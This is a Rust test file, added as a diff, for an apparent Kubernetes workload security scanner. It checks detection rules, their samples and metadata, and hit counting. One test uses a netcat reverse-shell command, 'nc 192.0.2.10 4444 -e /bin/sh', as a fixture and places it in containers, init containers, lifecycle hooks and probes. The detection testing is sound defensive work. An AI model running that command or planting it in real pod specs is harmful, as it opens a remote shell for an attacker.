@@ -1,0 +1,105 @@
+use std::collections::BTreeSet;
+
+use super::*;
+use crate::detect::{Findings, detect};
+use crate::workload::decode::Object;
+use crate::workload::{Kind, Workload};
+
+/// The view of a Job and of a CronJob with this pod spec.
+fn workloads(pod_spec: &str) -> [Workload; 2] {
+    let pod: serde_json::Value =
+        serde_saphyr::from_str(pod_spec).unwrap_or_else(|error| panic!("{error}: {pod_spec}"));
+    let template = serde_json::json!({"template": {"spec": pod}});
+    let job = serde_json::json!({"metadata": {"name": "sample", "namespace": "n"}, "spec": template});
+    let cron_job = serde_json::json!({"metadata": {"name": "sample", "namespace": "n"},
+        "spec": {"jobTemplate": {"spec": template}}});
+    [(Kind::Job, job), (Kind::CronJob, cron_job)].map(|(kind, object)| {
+        let object: Object = serde_json::from_value(object).unwrap();
+        Workload::from_object(kind, &object)
+    })
+}
+
+fn most_points(findings: &Findings, rule: &Rule) -> Option<i32> {
+    findings
+        .by_rule()
+        .find(|(found, _)| *found == rule)
+        .and_then(|(_, hits)| hits.iter().map(|hit| hit.points).max())
+}
+
+#[test]
+fn every_rule_proves_itself_on_its_samples() {
+    for rule in rules() {
+        for sample in rule.samples {
+            let (pod_spec, expected) = match sample {
+                Sample::Hit(points, pod_spec) => (pod_spec, Some(*points)),
+                Sample::Miss(pod_spec) => (pod_spec, None),
+            };
+            for workload in workloads(pod_spec) {
+                let found = most_points(&detect(&workload).findings, rule);
+                assert_eq!(found, expected, "{} on a {}:\n{pod_spec}", rule.id, workload.kind);
+            }
+        }
+    }
+}
+
+#[test]
+fn every_rule_has_both_kinds_of_sample_and_all_its_words() {
+    for rule in rules() {
+        let id = rule.id;
+        assert!(
+            rule.samples.iter().any(|sample| matches!(sample, Sample::Hit(..))),
+            "{id}: no sample that hits"
+        );
+        assert!(rule.samples.iter().any(|sample| matches!(sample, Sample::Miss(_))), "{id}: no look-alike");
+        assert!(!rule.meaning.is_empty() && !rule.false_positives.is_empty(), "{id}: words are missing");
+        assert!((1..=100).contains(&rule.message.len()), "{id}: the message is {} long", rule.message.len());
+        assert!(rule.points > 0 && rule.points <= rule.family.cap(), "{id}: points");
+        assert!(!rule.techniques.is_empty(), "{id}: no technique");
+    }
+}
+
+#[test]
+fn ids_are_unique_and_technique_ids_well_formed() {
+    let ids: Vec<_> = rules().map(|rule| rule.id).collect();
+    assert_eq!(ids.iter().collect::<BTreeSet<_>>().len(), ids.len());
+    let technique = regex::Regex::new(r"^T\d{4}(\.\d{3})?$").unwrap();
+    for rule in rules() {
+        assert!(rule.techniques.iter().all(|id| technique.is_match(id)), "{}", rule.id);
+        assert!(rule.id.chars().all(|letter| letter.is_ascii_lowercase() || letter == '-'), "{}", rule.id);
+    }
+}
+
+#[test]
+fn a_rule_says_the_same_in_every_place_that_runs_something() {
+    let command = r#"[sh, -c, "nc 192.0.2.10 4444 -e /bin/sh"]"#;
+    for place in [
+        format!("containers: [{{name: a, command: {command}}}]"),
+        format!("containers: [{{name: a, args: {command}}}]"),
+        format!("initContainers: [{{name: a, command: {command}}}]"),
+        format!("initContainers: [{{name: a, restartPolicy: Always, command: {command}}}]"),
+        format!("ephemeralContainers: [{{name: a, command: {command}}}]"),
+        format!("containers: [{{name: a, lifecycle: {{postStart: {{exec: {{command: {command}}}}}}}}}]"),
+        format!("containers: [{{name: a, lifecycle: {{preStop: {{exec: {{command: {command}}}}}}}}}]"),
+        format!("containers: [{{name: a, livenessProbe: {{exec: {{command: {command}}}}}}}]"),
+        format!("containers: [{{name: a, readinessProbe: {{exec: {{command: {command}}}}}}}]"),
+        format!("containers: [{{name: a, startupProbe: {{exec: {{command: {command}}}}}}}]"),
+    ] {
+        for workload in workloads(&place) {
+            let points = most_points(&detect(&workload).findings, rule("cmd-reverse-shell").unwrap());
+            assert_eq!(points, Some(50), "{place}");
+        }
+    }
+}
+
+#[test]
+fn many_hits_are_counted_and_few_are_kept() {
+    let container = r#"{"name":"a","securityContext":{"privileged":true}}"#;
+    let containers = vec![container; 5_000].join(",");
+    let object: Object = serde_json::from_str(&format!(
+        r#"{{"spec":{{"template":{{"spec":{{"containers":[{containers}]}}}}}}}}"#
+    ))
+    .unwrap();
+    let findings = detect(&Workload::from_object(Kind::Job, &object)).findings;
+    assert_eq!(findings.total(), 5_000);
+    assert_eq!(findings.worst_first().len(), Findings::MAX_KEPT);
+}
